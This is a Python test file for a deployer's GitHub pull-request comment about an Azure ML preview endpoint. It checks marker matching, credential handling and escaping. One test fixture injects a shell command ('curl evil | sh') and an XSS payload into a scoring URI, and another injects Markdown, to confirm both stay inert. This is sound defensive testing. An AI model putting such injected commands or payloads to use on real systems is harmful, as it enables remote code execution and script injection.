"""The preview's pull request comment: found again by its marker (only a bot's), never holding
a key, and inert whatever Azure or a failure's message says."""

from __future__ import annotations

import shlex

from deployer.github import comment

WHERE = comment.Where("credit-risk-pr7", "rg-ml", "ws-ml", "key")
LIVE = comment.Live(
    scoring_uri="https://credit-risk-pr7.eastus.inference.ml.azure.com/score",
    deployment="blue",
    image="reg.azurecr.io/credit-risk@sha256:" + "a" * 64,
    traffic="blue 100%",
    smoke="passed (HTTP 200, 31 ms)",
    timings="build 40.1 s · total 95.0 s",
    studio_url="https://ml.azure.com/endpoints/realtime/credit-risk-pr7/detail?wsid=/x",
    run_url="https://github.com/octo-org/octo-repo/actions/runs/1",
)


def bot(identifier: int, body: str) -> dict[str, object]:
    return {"id": identifier, "body": body, "user": {"login": "github-actions[bot]", "type": "Bot"}}


def test_the_comment_starts_with_its_marker_and_is_found_again() -> None:
    body = comment.live(WHERE, "3f2a9c1", LIVE)
    assert body.startswith(comment.marker("credit-risk-pr7"))
    others = [bot(1, "unrelated"), bot(5, body), bot(3, comment.marker("credit-risk-pr8") + "x")]
    assert comment.find_ours(others, "credit-risk-pr7") == 5


def test_a_person_quoting_the_marker_is_never_taken_for_ours() -> None:
    forged = {
        "id": 9,
        "body": comment.marker("credit-risk-pr7") + "\nplease click",
        "user": {"login": "mallory", "type": "User"},
    }
    assert comment.find_ours([forged], "credit-risk-pr7") is None
    assert comment.find_ours([bot(2, "x"), forged], "credit-risk-pr7") is None


def test_the_newest_of_several_is_updated() -> None:
    first = bot(10, comment.deploying(WHERE, "3f2a9c1", None))
    second = bot(12, comment.deploying(WHERE, "3f2a9c1", None))
    assert comment.find_ours([second, first], "credit-risk-pr7") == 12


def test_the_live_comment_shows_what_a_reviewer_needs() -> None:
    body = comment.live(WHERE, "3f2a9c1", LIVE)
    for shown in (LIVE.scoring_uri, "blue 100%", "sha256:" + "a" * 64, "passed", "total 95.0 s"):
        assert shown in body
    assert "[credit-risk-pr7](<https://ml.azure.com/endpoints/realtime/" in body


def test_the_curl_step_fetches_the_key_and_never_holds_one() -> None:
    body = comment.live(WHERE, "3f2a9c1", LIVE)
    script = body.split("```sh\n", 1)[1].split("\n```", 1)[0]
    first = script.splitlines()[0]
    assert first.startswith("TOKEN=$(az ml online-endpoint get-credentials")
    words = shlex.split(first.removeprefix("TOKEN=$(").removesuffix(")"))
    assert words[words.index("--name") + 1] == "credit-risk-pr7"
    assert words[words.index("--resource-group") + 1] == "rg-ml"
    assert words[words.index("--workspace-name") + 1] == "ws-ml"
    assert words[words.index("--query") + 1] == "primaryKey"
    assert '"Authorization: Bearer $TOKEN"' in script


def test_token_endpoints_fetch_a_token_instead() -> None:
    aml = comment.curl_step(comment.Where("e", "g", "w", "aml_token"), LIVE.scoring_uri)
    assert "--query accessToken" in aml
    aad = comment.curl_step(comment.Where("e", "g", "w", "aad_token"), LIVE.scoring_uri)
    assert "az account get-access-token --resource https://ml.azure.com" in aad


def test_a_hostile_scoring_uri_stays_one_quoted_word_inside_its_block() -> None:
    hostile = "https://x/score'; curl evil | sh; echo '\n```\n<img src=x onerror=alert(1)>"
    state = comment.Live(**{**LIVE.__dict__, "scoring_uri": hostile})
    body = comment.live(WHERE, "3f2a9c1", state)
    opening = next(line for line in body.splitlines() if line.endswith("sh") and "`" in line)
    fence = opening.removesuffix("sh")
    assert len(fence) > 3  # longer than the backticks inside: nothing can close it
    script = body.split(opening + "\n", 1)[1].split("\n" + fence + "\n", 1)[0]
    words = shlex.split(script.replace("\\\n", " "))
    assert hostile in words
    assert "evil" not in words
    table = body.split("Call it", 1)[0]
    assert "<img" not in table  # the table cell is escaped


def test_a_failure_message_is_shown_verbatim_in_a_block() -> None:
    message = "smoke test failed: HTTP 500 ```\n## injected heading\n@everyone"
    body = comment.failed(WHERE, "3f2a9c1", message, None)
    assert "\n## injected heading" in body  # inside the fenced block
    block = body.split("\n\n")[1]
    assert block.startswith("````text\n") and block.endswith("\n````")


def test_the_deleted_comment_says_so() -> None:
    body = comment.deleted(WHERE, "3f2a9c1", LIVE.run_url)
    assert body.startswith(comment.marker("credit-risk-pr7"))
    assert "was deleted" in body
    assert "get-credentials" not in body


def test_the_body_stays_within_githubs_limit() -> None:
    body = comment.failed(WHERE, "3f2a9c1", "x" * 200_000, None)
    assert len(body) <= comment.MAX_BODY
